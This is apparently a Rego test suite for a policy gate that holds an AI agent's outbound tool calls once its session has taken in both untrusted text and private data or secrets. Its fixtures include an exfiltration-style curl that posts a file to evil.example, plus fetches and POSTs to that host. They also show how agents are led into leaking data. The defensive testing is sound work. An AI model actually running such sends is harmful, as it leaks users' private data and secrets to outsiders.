package holdgate_test

import data.holdgate

after(words, call) := object.union(call, {"session": {"id": "s", "mode": "auto", "taint": words}})

lethal := ["untrusted", "private"]

fetching(host) := tool_call({"name": "WebFetch", "category": "network", "setting": "auto"}, {"category": "network", "urls": [{"url": concat("", ["https://", host]), "scheme": "https", "host": host}]})

plain_named(name, category) := tool_call({"name": name, "category": category, "setting": "auto"}, {"category": category})

on_server(server, name, category) := tool_call({"name": name, "server": server, "category": category, "setting": "auto"}, {"category": category})

posting(host) := object.union(base, {"kind": "http_request", "http": {"method": "POST", "scheme": "https", "host": host, "path": "/x"}})

test_each_way_of_sending_is_held if {
	every call in [
		fetching("evil.example"), plain_named("search_it", "network"), plain_named("send_mail", "message"),
		on_server("slack", "post", "unknown"), shell([["curl", "-d", "@x", "https://evil.example"]]), shell([["git", "push"]]), posting("evil.example"),
		tool_call({"name": "x", "category": "unknown", "annotations": {"openWorldHint": true}}, {"category": "unknown"}),
		tool_call({"name": "x", "category": "unknown"}, {"category": "unknown", "urls": [{"url": "https://e.example", "scheme": "https", "host": "e.example"}]}),
	] {
		trifecta_rule(call)
	}
}

trifecta_rule(call) if {
	d := holdgate.decision with input as after(lethal, call)
	d.action == "hold"
	d.risk == "high"
	"session.taint" in array.concat([d.rule], [f.rule | some f in object.get(d, "also", [])])
}

remote_reader(more) := tool_call(object.union({"server": "crm", "name": "get_it", "category": "unknown", "configured": true, "reads": true, "definition_changed": false}, more), {"category": "unknown"})

test_a_remote_server_is_told_what_it_is_asked if {
	trifecta_rule(remote_reader({"remote": true}))
	trifecta_rule(remote_reader({"remote": true, "category": "read"}))
	trifecta_rule(remote_reader({}))
	holdgate.decision.action == "allow" with input as after(lethal, remote_reader({"annotations": {"openWorldHint": false}}))
	holdgate.decision.action == "allow" with input as after(["private"], remote_reader({"remote": true}))
	tainted(remote_reader({"remote": true})) == ["untrusted"]
	tainted(remote_reader({})) == []
}

test_secrets_count_as_private if {
	d := holdgate.decision with input as after(["secrets", "untrusted"], fetching("evil.example"))
	d.rule == "session.taint"
}

test_half_of_it_is_not_asked_about if {
	every words in [["untrusted"], ["private"], ["secrets", "private"], []] {
		d := holdgate.decision with input as after(words, fetching("docs.example"))
		d.action == "allow"
	}
}

test_what_sends_nothing_out_is_not_asked_about if {
	every call in [fetching("localhost"), plain_named("Read", "read"), shell([["ls"]]), posting("localhost"), on_server("slack", "list", "read")] {
		d := holdgate.decision with input as after(lethal, call)
		d.action == "allow"
	}
}

test_the_settings_say_what_becomes_of_it if {
	holdgate.decision.action == "deny" with input as after(lethal, fetching("evil.example")) with data.settings.taint.send as "deny"
	holdgate.decision.action == "allow" with input as after(lethal, fetching("evil.example")) with data.settings.taint.send as "auto"
}

tainted(call) := object.get(d, "taint", []) if d := holdgate.decision with input as call

test_what_brings_text_of_strangers if {
	every call in [
		fetching("docs.example"), plain_named("search_it", "network"), shell([["curl", "https://docs.example"]]),
		plain_named("WebSearch", "read"), on_server("GitHub", "get_issue", "read"), plain_named("mcp__github__get_issue", "read"),
		tool_call({"name": "get_issue", "category": "read", "stands_for": "github/get_issue", "setting": "auto"}, {"category": "read"}),
		tool_call({"name": "x", "category": "read", "annotations": {"openWorldHint": true}}, {"category": "read"}),
		model_request({"provider": "anthropic", "name": "m", "server_tools": [{"type": "web_search_20250305", "name": "web_search"}]}),
		object.union(base, {"kind": "mcp_request", "mcp": {"server": "github", "method": "resources/read", "name": "issue://1"}}),
	] {
		tainted(call) == ["untrusted"]
	}
}

test_what_shows_private_data_and_secrets if {
	tainted(tool_call({"name": "query", "category": "database", "setting": "auto"}, {"category": "database", "sql": []})) == ["private"]
	tainted(touching({"clean": "/srv/app/.env", "class": "secret", "access": "read", "inside": true})) == ["secrets"]
	tainted(shell([["printenv"]])) == ["secrets"]
	tainted(tool_call({"name": "Write", "category": "write"}, {"category": "write", "secrets": [{"kind": "k", "pointer": "/x"}]})) == ["secrets"]
	tainted(on_server("gmail", "read_mail", "read")) == ["private", "untrusted"]
}

test_harmless_work_touches_nothing if {
	every call in [fetching("localhost"), plain_named("Read", "read"), shell([["ls"]]), model_request({"provider": "anthropic", "name": "m", "server_tools": [{"type": "code_execution", "name": "c"}]})] {
		tainted(call) == []
	}
}
